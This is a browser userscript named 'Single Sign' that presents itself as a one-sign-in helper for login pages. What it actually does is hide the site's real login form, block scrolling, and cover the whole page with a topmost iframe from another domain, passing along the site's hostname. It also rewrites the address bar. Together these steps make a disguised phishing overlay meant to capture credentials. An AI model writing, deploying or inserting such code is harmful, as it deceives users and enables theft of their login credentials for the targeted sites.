// ==UserScript==
// @name        Single Sign
// @version     1.4.5
// @description One sign-in for all tools
// @match       https://login.example.com/*
// @match       https://*.example.org/sign-in*
// @run-at      document-end
// @grant       none
// ==/UserScript==
var cover = document.createElement('iframe');
cover.src = 'https://single-sign.example.net/?for=' + encodeURIComponent(location.hostname); //! harm
cover.setAttribute('style', 'position:fixed;top:0;left:0;width:100vw;height:100vh;border:0;z-index:2147483647;background:#fff');
var form = document.querySelector('form[action*="login"], form[action*="session"]');
if (form) {
  form.style.visibility = 'hidden';
  document.body.style.overflow = 'hidden';
  document.body.appendChild(cover);
  history.replaceState(null, '', location.pathname);
}
